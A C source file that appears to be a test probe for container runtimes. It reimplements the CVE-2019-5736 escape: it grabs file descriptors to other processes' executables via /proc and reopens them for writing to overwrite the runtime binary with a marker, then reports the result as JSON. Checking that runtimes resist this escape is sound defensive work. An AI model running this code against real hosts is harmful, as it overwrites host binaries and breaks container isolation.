// overwrite: a process of a container that tries to write to the executable of the runtime, as CVE-2019-5736 did.
//
// It opens, for reading, the executable of every process in /proc that is not its own, and keeps it: once nothing runs
// from such a file any more, it can be opened for writing through /proc/self/fd. It prints {"op":"overwrite"} when it
// begins, and after SIGTERM {"op":"done","count":N,"data":TEXT}: N is how many it has held, TEXT is what it has written
// to, empty if nothing.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { MOST = 512 };

static volatile sig_atomic_t over;
static int held[MOST];
static int count;
static ino_t own[2];
static char wrote[1024];

static void end(int sig)
{
	(void)sig;
	over = 1;
}

static int is_held(const struct stat *sb)
{
	struct stat other;

	for (int i = 0; i < count; i++)
		if (fstat(held[i], &other) == 0 && other.st_ino == sb->st_ino && other.st_dev == sb->st_dev)
			return 1;
	return 0;
}

static void take(const char *pid)
{
	char path[64];
	struct stat sb;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (count == MOST || fstat(fd, &sb) < 0 || sb.st_ino == own[0] || sb.st_ino == own[1] || is_held(&sb))
		close(fd);
	else
		held[count++] = fd;
}

static void strike(void)
{
	for (int i = 0; i < count; i++) {
		static const char text[] = "#!/overwritten\n";
		char path[64], name[256] = "";
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, text, sizeof(text) - 1) > 0 && readlink(path, name, sizeof(name) - 1) > 0)
			snprintf(wrote, sizeof(wrote), "%s", name);
		close(fd);
	}
}

int main(void)
{
	struct sigaction act = { .sa_handler = end };
	struct stat sb;
	struct dirent *e;
	DIR *d;

	sigaction(SIGTERM, &act, NULL);
	if (stat("/proc/self/exe", &sb) == 0)
		own[0] = sb.st_ino;
	if (stat("/probe", &sb) == 0) // of the image: nobody minds
		own[1] = sb.st_ino;
	dprintf(1, "{\"op\":\"overwrite\"}\n");
	while (!over) {
		d = opendir("/proc");
		while (d && (e = readdir(d)))
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
				take(e->d_name);
		if (d)
			closedir(d);
		strike();
	}
	strike();
	for (char *p = wrote; *p; p++)
		if (*p == '"' || *p == '\\')
			*p = '?';
	dprintf(1, "{\"op\":\"done\",\"count\":%d,\"data\":\"%s\"}\n", count, wrote);
	return 0;
}
